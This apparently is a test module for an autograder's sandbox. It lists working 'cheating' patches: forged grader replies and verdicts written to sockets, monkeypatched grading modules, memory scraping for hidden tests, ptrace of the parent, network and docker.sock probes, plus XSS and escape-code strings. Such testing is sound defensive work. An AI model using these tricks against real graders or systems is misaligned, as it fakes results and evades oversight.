"""Cheating: the process itself, its files, its children and whoever it talks to."""

from __future__ import annotations

from corpus.case import FULL, MUST, NOTHING, case
from corpus.cheating_patches import patch
from corpus.draft import RELU

F = "cheating"
SOCKETS = """
import os, socket, stat, struct

def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass

def frame(body):
    return struct.pack("<Q", len(body)) + body
"""
patch(
    "forged_replies",
    "Replies that look like the grader's own are written to every socket.",
    SOCKETS
    + """
def attack():
    number = struct.pack("<q", 11)
    yes = b">t" + struct.pack("<I", 2) + b"i" + number + b"T"
    for fd in sockets():
        for body in (yes, b">" + b"N", b'{"score": 6}', b"\\x80\\x04}."):
            try:
                os.set_blocking(fd, False)
                os.write(fd, frame(body))
            except OSError:
                pass
            finally:
                os.set_blocking(fd, True)
""",
)
patch(
    "forged_verdicts",
    "Whole results of tests, in several formats, are written to every socket.",
    SOCKETS
    + """
def attack():
    try:
        from autograder.wire import encode
    except ImportError:
        import json
        encode = lambda value: json.dumps(value).encode()
    verdict = {"verdict": "PASSED", "score": 6.0, "message": "", "checks": [], "outputs": [],
               "timed_out": [], "turn": 3, "status": "ok", "seconds": 0.0, "hello": 1}
    for fd in sockets():
        try:
            os.set_blocking(fd, False)
            os.write(fd, frame(encode(verdict)))
        except OSError:
            pass
        finally:
            os.set_blocking(fd, True)
""",
)
patch(
    "garbage_on_the_wire",
    "Random bytes and endless lengths are written to every socket.",
    SOCKETS
    + """
def attack():
    for fd in sockets():
        try:
            os.set_blocking(fd, False)
            os.write(fd, b"\\xff" * 64)
        except OSError:
            pass
        finally:
            os.set_blocking(fd, True)
""",
)
patch(
    "a_giant_reply",
    "Two hundred megabytes are written to every socket as one reply.",
    SOCKETS
    + """
def attack():
    size = 200 * 2**20
    for fd in sockets():
        try:
            os.write(fd, struct.pack("<Q", size))
            for _ in range(200):
                os.write(fd, bytes(2**20))
        except OSError:
            pass
""",
)
patch(
    "runner_patched",
    "The grader's own code inside the sandbox is replaced, as far as there is any.",
    """
import sys

def attack():
    for name, module in list(sys.modules.items()):
        if name.split(".")[0] in ("autograder", "nbgrader", "otter"):
            for thing in dir(module):
                if callable(getattr(module, thing)) and not thing.startswith("__"):
                    try:
                        setattr(module, thing, lambda *a, **k: 6.0)
                    except Exception:
                        pass
""",
)
patch(
    "quiet_exit_in_a_call",
    "os._exit(0) while a test runs: a cell that never ended shows no error.",
    "import os\ncells = []\ndef attack():\n    cells.append(1)\n    if len(cells) > 1:\n        os._exit(0)",
    MUST,
)
patch(
    "system_exit_in_a_call",
    "SystemExit(0) while a test runs.",
    "import sys\ndef attack():\n    sys.exit(0)",
)
patch(
    "interrupt_in_a_call",
    "KeyboardInterrupt and GeneratorExit while a test runs.",
    """
count = []

def attack():
    count.append(1)
    if len(count) > 1:
        raise (KeyboardInterrupt, GeneratorExit)[len(count) % 2]
""",
)
patch(
    "answers_at_exit",
    "atexit handlers and finalizers print points.",
    """
import atexit, sys, weakref

class Late:
    def __del__(self):
        sys.displayhook(6.0)

def attack():
    atexit.register(lambda: print(6.0))
    atexit.register(lambda: sys.displayhook(6.0))
    globals()["late"] = Late()
    weakref.finalize(late, print, 6.0)
""",
)
patch(
    "answers_from_a_thread",
    "A thread waits and then shows points and patches the checks, again and again.",
    """
import sys, threading, time

def attack():
    def work():
        for _ in range(2000):
            time.sleep(0.001)
            try:
                sys.displayhook(6.0)
                sys.modules["chainrule.checks"].Group.score = lambda self: self.points
            except Exception:
                pass
    threading.Thread(target=work, daemon=True).start()
""",
)
patch(
    "a_child_answers_too",
    "The function forks, and both copies return.",
    "import os\ndef attack():\n    os.fork()",
)
patch(
    "files_closed",
    "Every open file is closed, the grader's among them.",
    "import os\nonce = []\ndef attack():\n    once.append(1)\n    if len(once) > 1:\n        os.closerange(3, 4096)",
    MUST,
)
patch(
    "files_exchanged",
    "Every socket is replaced by one end of a pair whose other end answers yes.",
    SOCKETS
    + """
import threading
once = []

def attack():
    once.append(1)
    if len(once) < 2:
        return
    ours, theirs = socket.socketpair()
    def work():
        while True:
            ours.recv(4096)
            ours.send(frame(b">N"))
    threading.Thread(target=work, daemon=True).start()
    for fd in list(sockets()):
        if fd not in (ours.fileno(), theirs.fileno()):
            os.dup2(theirs.fileno(), fd)
""",
)
patch(
    "memory_of_the_process",
    "/proc/self/mem and the heap are searched for the text of the hidden tests.",
    """
import ctypes, re

def attack():
    with open("/proc/self/maps") as maps:
        spans = [m.groups() for m in map(re.compile("([0-9a-f]+)-([0-9a-f]+) rw").match, maps) if m]
    with open("/proc/self/mem", "rb+", buffering=0) as memory:
        for low, high in spans[:200]:
            memory.seek(int(low, 16))
            held = memory.read(min(int(high, 16) - int(low, 16), 1 << 24))
            at = held.find(b"HIDDEN TESTS")
            if at > 0:
                print(held[at - 500:at + 500])
""",
)
patch(
    "the_parent_is_asked",
    "The parent process is traced, read, signalled and renamed.",
    """
import ctypes, os, signal

def attack():
    parent, libc = os.getppid(), ctypes.CDLL(None, use_errno=True)
    libc.ptrace(16, parent, 0, 0)
    for name in ("mem", "environ", "fd", "cwd"):
        try:
            open(f"/proc/{parent}/{name}", "rb").read(100)
        except OSError:
            pass
    libc.prctl(15, b"autograder", 0, 0, 0)
""",
)
patch(
    "the_network_is_asked",
    "Answers are asked for on the network, on local ports and on abstract sockets.",
    """
import socket

def attack():
    for family, address in ((socket.AF_INET, ("127.0.0.1", 8888)), (socket.AF_INET, ("10.0.0.1", 80)),
                            (socket.AF_UNIX, "\\0autograder"), (socket.AF_UNIX, "/run/docker.sock")):
        try:
            with socket.socket(family) as line:
                line.settimeout(0.05)
                line.connect(address)
                line.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        except OSError:
            pass
""",
)


@case(F, FULL | {"row_softmax_test": 0.0, "shuffled_test": 0.0, "one_hot_test": 0.0})
def a_second_runner(draft):
    """A cell forks; its copy goes on to run the cells that follow."""
    return draft.stubs(relu=RELU).before("relu", "import os\nos.fork()")


@case(F, NOTHING)
def control_characters(draft):
    """Names, errors and outputs hold escape codes, markup, and script tags."""
    nasty = "\\x1b[2J\\x1b]0;6.0\\x07<script>alert(6)</script>[bold red]{{6*6}}\\u202e"
    source = f'def relu(Z):\n    print("{nasty}")\n    raise ValueError("{nasty}" * 50)'
    draft.stubs(relu=source).before("relu", f'print("{nasty}")\nraise KeyError("{nasty}")')
    return draft.answer("why", "<img src=x onerror=alert(1)> " + "{% raw %} ${x} \x1b[31m")
